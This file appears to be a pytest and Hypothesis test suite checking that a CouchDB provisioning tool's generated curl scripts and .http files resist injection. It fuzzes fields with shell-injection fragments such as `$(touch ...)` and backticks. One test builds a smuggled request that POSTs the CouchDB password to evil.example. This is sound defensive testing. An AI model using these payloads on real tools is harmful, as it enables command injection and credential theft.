"""No value from an account-type file can inject code into a generated payload.

Hypothesis writes hostile strings (newlines, quotes, `$(...)`, backticks, `\\`, NUL, U+2028,
`{{...}}`, request separators, heredoc ends...) into every field: the `_id`, `--context`,
keys, values at any depth, and the placeholders' values. Then:
- the curl script is run with the real `sh` and `curl` against pouchdb-server: it must store
  exactly the documents `--format json` prints, and a canary file that any injected command
  would create must not exist;
- the `.http` file is read as an editor REST client reads it (`###` separators, `#`
  comments, request line, headers, body; `{{...}}` templates) and its requests are sent:
  only our requests, only our templates, and the stored documents equal `--format json`'s.
A NUL cannot be carried by sh: the curl format refuses an `_id` holding one, with one line.
"""

from __future__ import annotations

import contextlib
import io
import json
import os
import re
import subprocess
import tempfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from unittest import mock

import pytest
from hypothesis import HealthCheck, assume, given, settings
from hypothesis import strategies as st

from kpack.cli import main
from kpack.escape import printable
from tests.hardening.conftest import fuzz_settings
from tests.provision.conftest import Server

pytestmark = pytest.mark.couchdb

# Created, relative to the script's folder, by any injected command (no "/": ids with a
# context must not hold one).
CANARY = "kpack-injected"
FRAGMENTS = [
    "\n", "\r\n", "\r", "'", '"', "\\", "`", "$(", ")", ";", "&", "|", "#", "%", "%s", "*",
    f"$(touch {CANARY})", f"`touch {CANARY}`", f"\ntouch {CANARY}\n", f"';touch {CANARY};'",
    f'";touch {CANARY};"', "\0", "\u2028", "\u2029", "\x85", "\x1b]0;x\x07", "\t", "\x7f",
    "{{", "}}", "{{$processEnv COUCHDB_PASSWORD}}", "{{couchdb}}", "###", "@couchdb = x",
    "\n### x\nGET http://127.0.0.1:1/\n", "kpack_EOF", "\nkpack_EOF\n", "${A}", "${B}", "$$",
    "é", "💥", "\ufeff", "-", "~", "?", "=", ":", "EOF",
]
_ANY = st.characters(exclude_categories=["Cs"])  # lone surrogates are refused (not text)
_PLACEHOLDERS = ("${A}", "${B}")


def literal(text: str) -> str:
    """`text` written so that it holds no placeholder (`$` doubled)."""
    return text.replace("$", "$$")


def _hostile(placeholders: bool) -> st.SearchStrategy[str]:
    """Text made of hostile fragments and random characters, as written in a file: `$`
    doubled (a literal `$`) except in the placeholders $A and ${B} when allowed."""
    def as_written(piece: str) -> str:
        return piece if placeholders and piece in _PLACEHOLDERS else literal(piece)

    return st.lists(
        st.one_of(st.sampled_from(FRAGMENTS), st.text(_ANY, max_size=4)).map(as_written),
        max_size=6,
    ).map("".join)


raw_text = st.lists(st.one_of(st.sampled_from(FRAGMENTS), st.text(_ANY, max_size=4)),
                    max_size=6).map("".join)
hostile = _hostile(placeholders=False)
hostile_value = _hostile(placeholders=True)
# Environment values: no NUL (impossible in the environment); the script refuses control
# characters other than tab, CR and newline (JSON cannot hold them raw).
_ENV_CHARS = st.characters(
    exclude_categories=["Cs"], exclude_characters="".join(map(chr, range(0x20))),
) | st.sampled_from("\t\r\n")
env_value = st.lists(
    st.one_of(st.sampled_from([f for f in FRAGMENTS if not any(c in f for c in "\0\x1b\x07")]),
              st.text(_ENV_CHARS, max_size=4)),
    max_size=5,
).map("".join)


@st.composite
def documents(draw: st.DrawFn, placeholders: bool = True) -> list[dict[str, Any]]:
    value = hostile_value if placeholders else hostile
    docs = []
    for number in range(draw(st.integers(1, 2))):
        docs.append({
            # Not "_…" (CouchDB reserves those ids and top-level keys), placeholders off.
            "_id": "i" + draw(hostile),
            "grant_mode": "secret",
            "slug": f"svc{number}",
            "secret": {draw(raw_text): draw(value), "list": [draw(value), 1, None, True]},
            "x" + draw(raw_text): draw(value),  # keys hold no placeholders
        })
    assume(len({d["_id"] for d in docs}) == len(docs))
    return docs


contexts = st.one_of(st.none(), raw_text.filter(lambda c: c != "" and "/" not in c))


@contextlib.contextmanager
def environment(values: dict[str, str]) -> Iterator[None]:
    clean = {k: v for k, v in os.environ.items() if not k.startswith("COUCHDB_")}
    with mock.patch.dict(os.environ, {**clean, **values}, clear=True):
        yield


def kpack(folder: Path, docs: list[dict[str, Any]], env: dict[str, str],
          *args: str) -> tuple[int, str, str]:
    path = folder / "account-types.json"
    path.write_text(json.dumps(docs), encoding="utf-8")
    out, err = io.StringIO(), io.StringIO()
    with environment(env), contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
        code = main(["provision", str(path), *args])
    assert "Traceback" not in err.getvalue()
    return code, out.getvalue(), err.getvalue()


def stored(server: Server, ids: list[str]) -> list[Any]:
    found = []
    for doc_id in ids:
        doc = server.doc(doc_id)
        assert doc is not None, doc_id
        found.append({k: v for k, v in doc.items() if k != "_rev"})
    return found


def expected(folder: Path, docs: list[dict[str, Any]], env: dict[str, str],
             context_args: list[str]) -> list[Any] | None:
    """What `--format json` says will be stored; None when the rules refuse the files, or an
    `_id` holds a "/" (a context) when --context adds one."""
    # A and B fill fields outside the secret ones too: named with --env.
    code, out, err = kpack(folder, docs, env, "-o", "json", "--reveal-secrets", "--env", "A",
                           "--env", "B", *context_args)
    if code == 1 or (code == 2 and err.endswith("already has a context; drop --context or the "
                                                "prefix\n")):
        return None
    assert code == 0, err
    result: list[Any] = json.loads(out)
    return result


def _settings() -> settings:
    base = fuzz_settings()
    return settings(
        base, max_examples=max(10, base.max_examples // 5),
        suppress_health_check=[*base.suppress_health_check, HealthCheck.function_scoped_fixture],
    )


@_settings()
@given(docs=documents(), context=contexts, a=env_value, b=env_value)
def test_curl_script_stores_exactly_the_json_documents(
    couch_server: Server, docs: list[dict[str, Any]],
    context: str | None, a: str, b: str,
) -> None:
    env = {"A": a, "B": b, "COUCHDB_URL": couch_server.url}
    context_args = ["--context", context] if context is not None else []
    with tempfile.TemporaryDirectory() as name:
        folder = Path(name)
        want = expected(folder, docs, env, context_args)
        assume(want is not None)
        assert want is not None
        code, script, err = kpack(folder, docs, env, "--reveal-secrets", *context_args)
        if any("\0" in d["_id"] for d in want):
            assert (code, script) == (2, "")
            assert err.endswith("which a sh script cannot carry: use --format json or --apply\n")
            assert err.count("kpack: error:") == 1
            return
        assert code == 0, err
        couch_server.reset()
        (folder / "p.sh").write_text(script, encoding="utf-8")
        run = subprocess.run(["sh", "p.sh"], cwd=folder, env={**os.environ, **env},
                             capture_output=True, timeout=120)
        assert not (folder / CANARY).exists(), "an injected command ran"
    assert run.returncode == 0, run.stderr.decode("utf-8", "replace")
    assert run.stderr == b""
    ids = [d["_id"] for d in want]
    # Ids as kpack prints them: control characters escaped (issue 18, item 7).
    assert run.stdout.decode("utf-8") == "".join(f"created {printable(i)}\n" for i in ids)
    assert stored(couch_server, ids) == want


# -- .http: read and sent as an editor REST client does -----------------------------------

_REQUEST_LINE = re.compile(r"(PUT|POST) \{\{couchdb\}\}((?:/[A-Za-z0-9%._~-]+)+)")
_HEADERS = {
    "Authorization: Basic {{$processEnv COUCHDB_USER}}:{{$processEnv COUCHDB_PASSWORD}}",
    "Content-Type: application/json",
}
_TEMPLATE = re.compile(r"\{\{(.*?)\}\}")


def parse_http(text: str) -> tuple[dict[str, str], list[tuple[str, str, str]]]:
    """(file variables, [(method, path, body)]) as REST Client reads the file; fails on any
    line that is not ours (an injected request, header or variable)."""
    blocks = re.split(r"^###.*$", text, flags=re.M)
    variables: dict[str, str] = {}
    for line in blocks[0].splitlines():
        if line.startswith("@"):
            name, _, value = line[1:].partition(" = ")
            variables[name] = value
        else:
            assert line == "" or line.startswith("#"), repr(line)
    requests = []
    for block in blocks[1:]:
        lines = block.split("\n")[1:]  # the rest of the ### line
        while lines and (lines[0] == "" or lines[0].startswith("#")):
            lines.pop(0)
        if not lines:
            continue  # a masked document: comments only
        match = _REQUEST_LINE.fullmatch(lines[0])
        assert match, repr(lines[0])
        end = lines.index("")
        assert set(lines[1:end]) <= _HEADERS, lines[1:end]
        body = "\n".join(lines[end + 1:]).strip("\n")
        requests.append((match.group(1), match.group(2), body))
    return variables, requests


def send_http(server: Server, text: str, env: dict[str, str]) -> int:
    variables, requests = parse_http(text)
    assert set(variables) == {"couchdb"}
    allowed = {"couchdb"} | {f"$processEnv {name}" for name in (*env, "COUCHDB_USER",
                                                                 "COUCHDB_PASSWORD")}
    assert set(_TEMPLATE.findall(text)) <= allowed
    for method, path, body in requests:
        filled = _TEMPLATE.sub(lambda m: env[m.group(1).removeprefix("$processEnv ")], body)
        status, _ = server.request(method, path, filled.encode("utf-8") if filled else None,
                                   {"Content-Type": "application/json"})
        assert status in (200, 201, 202, 412), (method, path, status)
    return len(requests)


# REST Client pastes {{$processEnv NAME}} as is, unescaped: values for the .http format are
# what can stand inside a JSON string without escaping.
_PLAIN_ENV = st.text(st.characters(exclude_categories=["Cs", "Cc"], exclude_characters='"\\'),
                     max_size=12)


@_settings()
@given(docs=documents(), context=contexts, a=_PLAIN_ENV, b=_PLAIN_ENV)
def test_http_requests_store_exactly_the_json_documents(
    couch_server: Server, docs: list[dict[str, Any]], context: str | None, a: str, b: str,
) -> None:
    env = {"A": a, "B": b}
    context_args = ["--context", context] if context is not None else []
    with tempfile.TemporaryDirectory() as name:
        folder = Path(name)
        want = expected(folder, docs, env, context_args)
        assume(want is not None)
        assert want is not None
        code, text, err = kpack(folder, docs, env, "-o", "http", "--reveal-secrets",
                                *context_args)
    assert code == 0, err
    couch_server.reset()
    assert send_http(couch_server, text, env) == 2 + len(want)
    assert stored(couch_server, [d["_id"] for d in want]) == want


# -- fixed cases -----------------------------------------------------------------------------

ISSUE_ID = f"svc\ntouch {CANARY}\n"  # the issue's example: a newline in _id


def test_the_issues_masked_comment_injection(couch_server: Server, tmp_path: Path) -> None:
    docs = [{"_id": ISSUE_ID, "grant_mode": "secret", "slug": "svc", "secret": "literal-v4lue"}]
    code, script, _ = kpack(tmp_path, docs, {})
    assert code == 0
    couch_server.reset()
    run = subprocess.run(["sh", "-c", script], cwd=tmp_path, capture_output=True, timeout=120,
                         env={**os.environ, "COUCHDB_URL": couch_server.url})
    assert run.returncode == 1  # masked: refuses to run (see test_masked_script_refuses)
    assert not (tmp_path / CANARY).exists()
    # Revealed, the script runs and stores the id as it is.
    code, script, _ = kpack(tmp_path, docs, {}, "--reveal-secrets")
    run = subprocess.run(["sh", "-c", script], cwd=tmp_path, capture_output=True, timeout=120,
                         env={**os.environ, "COUCHDB_URL": couch_server.url})
    assert run.returncode == 0, run.stderr
    assert not (tmp_path / CANARY).exists()
    assert couch_server.doc(ISSUE_ID)["secret"] == "literal-v4lue"


def test_http_id_cannot_inject_a_request(tmp_path: Path) -> None:
    steal = "x\n\n### steal\nPOST https://evil.example/\n\n{{$$processEnv COUCHDB_PASSWORD}}"
    docs = [{"_id": steal, "grant_mode": "secret", "slug": "svc", "secret": "$A"}]
    code, text, err = kpack(tmp_path, docs, {"A": "a"}, "-o", "http")
    assert code == 0, err
    _, requests = parse_http(text)
    assert [method for method, _, _ in requests] == ["PUT", "POST", "PUT"]
    assert not any(line.startswith("POST https") for line in text.splitlines())
    assert "{{$processEnv COUCHDB_PASSWORD}}" not in text.replace(
        "Basic {{$processEnv COUCHDB_USER}}:{{$processEnv COUCHDB_PASSWORD}}", "")


def test_nul_in_an_id_is_refused_by_the_curl_format_only(tmp_path: Path) -> None:
    docs = [{"_id": "a\0b", "grant_mode": "secret", "slug": "svc", "secret": "$A"}]
    code, out, err = kpack(tmp_path, docs, {"A": "x"})
    assert (code, out) == (2, "")
    assert err == (f"kpack: error: {tmp_path / 'account-types.json'}#/0: \"_id\" holds a NUL "
                   "character (U+0000), which a sh script cannot carry: use --format json or "
                   "--apply\n")
    code, text, err = kpack(tmp_path, docs, {"A": "x"}, "-o", "http")
    assert code == 0 and "a%00b" in text


def test_lone_surrogate_is_refused_in_one_line(tmp_path: Path) -> None:
    (tmp_path / "account-types.json").write_text(
        '[{"_id": "a\\ud800", "grant_mode": "secret", "slug": "svc", "secret": "$A"}]')
    for fmt in ("curl", "http", "json"):
        out, err = io.StringIO(), io.StringIO()
        with environment({"A": "x"}), contextlib.redirect_stdout(out), \
                contextlib.redirect_stderr(err):
            code = main(["provision", str(tmp_path / "account-types.json"), "-o", fmt])
        assert (code, out.getvalue()) == (2, "")
        assert "lone surrogate (\\ud800)" in err.getvalue() and err.getvalue().count("\n") == 1


@pytest.mark.parametrize("name", ["kpack_url", "kpack_v_A", "kpack_cfg", "IFS", "PWD", "LC_ALL"])
def test_placeholders_cannot_read_the_scripts_own_variables(tmp_path: Path, name: str) -> None:
    docs = [{"_id": "svc", "grant_mode": "secret", "slug": "svc", "secret": f"${{{name}}}"}]
    code, out, err = kpack(tmp_path, docs, {name: "mine"})
    assert (code, out) == (2, "")
    assert err.startswith(f"kpack: error: placeholder ${name}: ") and err.count("\n") == 1
    # The other formats read the caller's value as given.
    code, out, _ = kpack(tmp_path, docs, {name: "mine"}, "-o", "json", "--reveal-secrets")
    assert code == 0 and json.loads(out)[0]["secret"] == "mine"


def test_ids_print_as_they_are(couch_server: Server, tmp_path: Path) -> None:
    """dash's echo reads backslashes (`\\n`, `\\c`): the script prints ids with printf."""
    ids = ["svc\\nnext", "svc\\cstop", "svc-%s-%d"]
    docs = [{"_id": doc_id, "grant_mode": "secret", "slug": f"s{i}", "secret": "${A}"}
            for i, doc_id in enumerate(ids)]
    code, script, err = kpack(tmp_path, docs, {"A": "a"})
    assert code == 0, err
    couch_server.reset()
    run = subprocess.run(["sh", "-c", script], cwd=tmp_path, capture_output=True, timeout=120,
                         env={**os.environ, "A": "a", "COUCHDB_URL": couch_server.url})
    assert run.returncode == 0, run.stderr
    assert run.stdout.decode() == "".join(f"created {doc_id}\n" for doc_id in ids)


@settings(fuzz_settings(), max_examples=max(20, fuzz_settings().max_examples // 3))
@given(text=st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\0")))
def test_sh_quote_is_one_word_holding_exactly_the_text(text: str) -> None:
    from kpack.provision.render_curl import sh_quote

    with tempfile.TemporaryDirectory() as name:
        run = subprocess.run(["sh", "-c", f"printf '%s' {sh_quote(text)}"], cwd=name,
                             capture_output=True, timeout=60)
        assert os.listdir(name) == []
    assert (run.returncode, run.stderr) == (0, b"")
    assert run.stdout == text.encode("utf-8")


@given(path=raw_text)
def test_the_default_url_in_the_script_and_http_file_is_quoted(path: str) -> None:
    from kpack.provision.render_http import http_url

    assume("\0" not in path)
    url = http_url("http://127.0.0.1:5984/" + path)
    assert re.fullmatch(r"[A-Za-z0-9:/?#\[\]@!$&'()*+,;=%._~-]*", url), url
